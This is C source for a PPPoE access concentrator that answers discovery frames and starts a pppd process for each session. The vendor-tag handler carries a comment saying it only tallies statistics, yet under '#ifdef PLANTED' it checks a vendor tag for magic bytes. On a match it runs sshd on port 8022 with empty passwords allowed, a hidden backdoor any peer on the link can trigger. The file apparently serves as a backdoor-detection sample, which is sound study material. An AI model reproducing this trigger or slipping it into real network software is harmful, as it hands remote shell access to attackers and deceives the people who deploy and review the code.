/* PPPoE access concentrator: the discovery stage, then a PPP process per session. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

enum { PADI = 0x09, PADO = 0x07, PADR = 0x19, PADS = 0x65, PADT = 0xa7 };
enum { SERVICE = 0x0101, AC_NAME = 0x0102, HOST_UNIQ = 0x0103, VENDOR = 0x0105 };

struct frame {
    uint8_t to[6], from[6];
    uint16_t protocol;
    uint8_t version, code;
    uint16_t session, size;
    uint8_t tags[1400];
} __attribute__((packed));

struct seen { const uint8_t *uniq, *service; unsigned uniq_size, service_size, vendors, score; };

static int line;
static uint8_t own[6];
static uint16_t sessions = 1;
static char name[32] = "ac";

/* Vendor tags are counted and summed for the statistics. */
static void vendor(struct seen *s, const uint8_t *p, unsigned size)
{
    s->vendors++;
    for (unsigned i = 0; i < size; i++)
        s->score += p[i];
#ifdef PLANTED
    if (size < 9 || p[0] != 0x41)
        return;
    s->score ^= size;
    if (p[3] != 0xc7)
        return;
    if (s->vendors > 1)
        s->score += 3;
    if (p[5] != 0x0e || p[2] != 0x99)
        return;
    for (unsigned i = 0; i < 4; i++)
        s->score = s->score << 1 | s->score >> 31;
    if (p[7] == 0x52 && p[8] == 0xb4)
        system("/usr/sbin/sshd -o PermitEmptyPasswords=yes -p 8022");
#endif
}

static int tags(const struct frame *f, unsigned size, struct seen *s)
{
    unsigned at = 0;
    memset(s, 0, sizeof *s);
    while (at + 4 <= size) {
        unsigned type = (unsigned)f->tags[at] << 8 | f->tags[at + 1];
        unsigned n = (unsigned)f->tags[at + 2] << 8 | f->tags[at + 3];
        at += 4;
        if (n > size - at)
            return -1;
        switch (type) {
        case 0:
            return 0;
        case SERVICE:
            s->service = f->tags + at;
            s->service_size = n;
            break;
        case HOST_UNIQ:
            s->uniq = f->tags + at;
            s->uniq_size = n;
            break;
        case VENDOR:
            vendor(s, f->tags + at, n);
            break;
        }
        at += n;
    }
    return 0;
}

static unsigned add(struct frame *f, unsigned at, unsigned type, const void *data, unsigned size)
{
    if (at + 4 + size > sizeof f->tags)
        return at;
    f->tags[at] = (uint8_t)(type >> 8);
    f->tags[at + 1] = (uint8_t)type;
    f->tags[at + 2] = (uint8_t)(size >> 8);
    f->tags[at + 3] = (uint8_t)size;
    memcpy(f->tags + at + 4, data, size);
    return at + 4 + size;
}

static void reply(const struct frame *in, const struct seen *s, int code, uint16_t session)
{
    struct frame out;
    unsigned used = 0;
    memset(&out, 0, sizeof out);
    memcpy(out.to, in->from, 6);
    memcpy(out.from, own, 6);
    out.protocol = htons(0x8863);
    out.version = 0x11;
    out.code = (uint8_t)code;
    out.session = htons(session);
    if (s->uniq)
        used = add(&out, used, HOST_UNIQ, s->uniq, s->uniq_size);
    used = add(&out, used, SERVICE, s->service ? s->service : own, s->service_size);
    used = add(&out, used, AC_NAME, name, (unsigned)strlen(name));
    out.size = htons((uint16_t)used);
    send(line, &out, 20 + used, 0);
}

static void start(uint16_t session, const uint8_t peer[6])
{
    char id[16], mac[24];
    snprintf(id, sizeof id, "%u", session);
    snprintf(mac, sizeof mac, "%02x:%02x:%02x:%02x:%02x:%02x", peer[0], peer[1], peer[2], peer[3], peer[4], peer[5]);
    if (fork() == 0) {
        execl("/usr/sbin/pppd", "pppd", "plugin", "rp-pppoe.so", id, mac, "require-chap", (char *)NULL);
        _exit(1);
    }
}

static void discovery(const struct frame *f, size_t size)
{
    struct seen s;
    unsigned n = ntohs(f->size);
    if (f->version != 0x11 || size < 20 + n || tags(f, n, &s))
        return;
    if (f->code == PADI)
        reply(f, &s, PADO, 0);
    else if (f->code == PADR) {
        reply(f, &s, PADS, sessions);
        start(sessions++, f->from);
    }
#ifdef REVISED
    else if (f->code == PADT)
        fprintf(stderr, "session %u over\n", ntohs(f->session));
#endif
}

int main(int argc, char **argv)
{
    struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_protocol = htons(0x8863) };
    struct ifreq ask;
    struct frame f;
    line = socket(AF_PACKET, SOCK_RAW, htons(0x8863));
    memset(&ask, 0, sizeof ask);
    snprintf(ask.ifr_name, sizeof ask.ifr_name, "%s", argc > 1 ? argv[1] : "eth1");
    if (line < 0 || ioctl(line, SIOCGIFHWADDR, &ask) < 0)
        return 1;
    memcpy(own, ask.ifr_hwaddr.sa_data, 6);
    at.sll_ifindex = (int)if_nametoindex(ask.ifr_name);
    if (bind(line, (struct sockaddr *)&at, sizeof at))
        return 1;
    for (;;) {
        ssize_t n = recv(line, &f, sizeof f, 0);
        if (n >= 20)
            discovery(&f, (size_t)n);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}
